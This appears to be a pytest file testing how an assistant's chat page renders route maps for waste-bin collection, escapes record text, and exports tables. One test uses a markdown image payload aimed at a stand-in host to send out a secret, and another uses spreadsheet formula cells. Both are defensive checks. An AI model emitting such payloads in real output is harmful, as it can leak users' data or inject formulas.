"""Claims about how the chat page shows maps, texts and tables; no browser is needed for these."""

from __future__ import annotations

import csv
import io
import math
from dataclasses import replace
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from surface_cases import ANSWER, CARD, PLAN, PROPOSAL, TICKET, line, point

from assistant.surfaces.answers import own_words
from assistant.surfaces.chat_map import map_figure
from assistant.surfaces.chat_text import card_text, headline_text, plain, reasons_text, table_csv
from assistant.surfaces.openai_shapes import spoken
from assistant.surfaces.printed import print_answer, print_table
from domain.values import Table


def collection(*features: Any) -> dict[str, Any]:
    """GeoJSON."""
    return {"type": "FeatureCollection", "features": list(features)}


# ---------------------------------------------------------------- map


def test_every_bin_and_every_truck_is_on_the_map() -> None:
    figure = map_figure(PLAN.map)
    assert figure is not None
    by_name = {trace["name"]: trace for trace in figure["data"]}
    assert set(by_name) == {"Truck 1", "Truck 2", "Depot", "Bins"}
    assert len(by_name["Bins"]["x"]) == 18
    assert by_name["Truck 1"]["line"]["color"] != by_name["Truck 2"]["line"]["color"]
    assert by_name["Bins"]["text"][0] == "1514000 Sather Gate<br>97 % full"


@pytest.mark.parametrize("lat", [-34.9, 0.0, 37.87, 65.0])
def test_a_metre_is_as_long_to_the_east_as_to_the_north(lat: float) -> None:
    figure = map_figure(collection(point("a", 10.0, lat, 1), point("b", 10.01, lat, 2)))
    assert figure is not None
    assert figure["layout"]["yaxis"]["scaleanchor"] == "x"
    assert math.isclose(figure["layout"]["yaxis"]["scaleratio"], 1 / math.cos(math.radians(lat)), rel_tol=1e-9)


def test_the_scale_bar_has_the_length_that_it_says() -> None:
    figure = map_figure(collection(point("a", -122.26, 37.87, 1), point("b", -122.25, 37.88, 2)))
    assert figure is not None
    bar, (label,) = figure["layout"]["shapes"][0], figure["layout"]["annotations"]
    metres = (bar["x1"] - bar["x0"]) * 111_320 * math.cos(math.radians(37.875))
    assert label["text"] == "200 m"
    assert math.isclose(metres, 200, rel_tol=0.001)


def test_a_round_without_a_depot_point_begins_with_a_square() -> None:
    figure = map_figure(collection(line("Truck 1", [1.0, 2.0], [1.1, 2.1], [1.0, 2.0]), point("a", 1.1, 2.1, 50)))
    assert figure is not None
    depots = [trace for trace in figure["data"] if trace["name"] == "Depot"]
    assert [(d["x"], d["y"]) for d in depots] == [([1.0], [2.0])]


def test_what_a_search_found_is_numbered_and_tells_its_passage_under_the_pointer() -> None:
    told = {"kind": "hit", "title": "Bags <b>left</b>", "passage": "Three bags removed. " * 5, "ref": "records:R1"}
    hits = [
        {**point("", 10.0, 1.0, 0), "properties": {**told, "number": n, "date": "2025-07-15", "distance_m": 120}}
        for n in (1, 2)
    ]
    figure = map_figure(collection(*hits))
    assert figure is not None
    (trace,) = figure["data"]
    assert (trace["name"], trace["text"]) == ("Found", ["2", "1"])  # the best is drawn last, on top
    lines = trace["hovertext"][1].split("<br>")
    assert lines[0] == "Bags ‹b>left‹/b>"
    assert " ".join(lines[1:-1]) == ("Three bags removed. " * 5).strip()
    assert max(map(len, lines[1:-1])) <= 60
    assert lines[-1] == "2025-07-15 · 120 m away · records:R1"


@pytest.mark.parametrize("nothing", [None, {}, collection(), collection({"type": "Feature", "geometry": None})])
def test_nothing_to_draw_is_no_map(nothing: dict[str, Any] | None) -> None:
    assert map_figure(nothing) is None


def test_one_bin_alone_and_a_bin_without_a_level_can_be_drawn() -> None:
    unknown = {**point("a", 1.0, 2.0, 0), "properties": {"label": "<b>a</b>", "kind": "bin", "fill_pct": None}}
    figure = map_figure(collection(unknown))
    assert figure is not None
    assert figure["data"][0]["text"] == ["‹b>a‹/b>"]


# ---------------------------------------------------------------- text

rendered = MarkdownIt("commonmark").enable("table").enable("strikethrough")


@given(st.text(alphabet=st.sampled_from("ab1 .-+*_`#<>[]()!|~$\\&"), max_size=40))
def test_text_of_records_is_never_markup(text: str) -> None:
    tokens = rendered.parse(f"x {plain(text)}")
    inline = [child for token in tokens for child in token.children or []]
    assert {child.type for child in inline} <= {"text", "text_special", "softbreak"}
    shown = "".join(child.content for child in inline)
    assert shown.split() == f"x {text}".split()


@pytest.mark.parametrize("text", ["- not a list", "1. not a list", "# not a heading", "> not a quotation", "+ a"])
def test_a_line_of_a_record_does_not_begin_a_block(text: str) -> None:
    assert [token.type for token in rendered.parse(plain(text))] == ["paragraph_open", "inline", "paragraph_close"]


def test_a_picture_in_a_note_is_not_loaded() -> None:
    html = rendered.render(plain("![x](https://evil.example/?q=secret) <img src=x> [click](https://evil.example)"))
    assert "<img" not in html
    assert "<a" not in html


def test_an_answer_says_its_reasons_with_evidence_once() -> None:
    text = headline_text(PROPOSAL) + reasons_text(PROPOSAL)
    assert text.count("18 bins would overflow before") == 1
    assert "`plans:P-0001`" in text
    assert "**Reduced:** The forecast service" in text
    assert "**Understood** when: 2025-08-31, 22:00 to 06:00" in text
    assert "`D-0003`" in text


def test_lines_that_are_shown_with_their_evidence_are_not_said_twice() -> None:
    said = "18 of 42.\n- The compost bin at Sather Gate fills 21 % a day since Monday.\nUnderstood: near.\nData: old."
    assert own_words(replace(ANSWER, text=said)) == "18 of 42."
    assert own_words(replace(ANSWER, text="Data: all.")) == "Data: all."
    assert print_answer(replace(ANSWER, text=said)).count("fills 21 % a day") == 1


def test_what_is_degraded_is_said_once() -> None:
    said = replace(PROPOSAL, text="Sent. The forecast service cannot be reached: last level plus mean rate.")
    assert headline_text(said).count("The forecast service") == print_answer(said).count("The forecast service") == 1


def test_a_card_says_what_who_and_until_when() -> None:
    text = card_text(CARD)
    for part in ("A-0001", "Truck 2: 8 stops", "manager", "2025-09-01 06:00", "`9f2c00000000`"):
        assert part in text


# ---------------------------------------------------------------- tables


def test_a_cell_that_would_be_a_formula_is_made_harmless() -> None:
    table = Table(columns=["note", "fill"], rows=[["=HYPERLINK(1)", -3], ["@x", None], ["fine", 2.5]])
    read = list(csv.reader(io.StringIO(table_csv(table).decode("utf-8-sig"))))
    assert read == [["note", "fill"], ["'=HYPERLINK(1)", "-3"], ["'@x", ""], ["fine", "2.5"]]


def test_a_printed_table_is_aligned_and_says_what_it_leaves_out() -> None:
    table = Table(columns=["bin", "fill_pct"], rows=[[f"B{n}", n * 1.5] for n in range(20)] + [["x" * 50, None]])
    lines = print_table(table, 3).splitlines()
    assert lines == ["bin  fill_pct", "---  --------", "B0          0", "B1        1.5", "B2          3",
                     "... and 18 more rows (--json shows all)"]  # fmt: skip
    assert "x" * 31 + "…" in print_table(table, 30)


def test_every_proposal_of_an_answer_is_printed_and_said() -> None:
    both = replace(PROPOSAL, proposals=(CARD, TICKET))
    for told in (print_answer(both), spoken(both)):
        assert told.index(CARD.title) < told.index(TICKET.title)
        assert TICKET.proposal_id in told
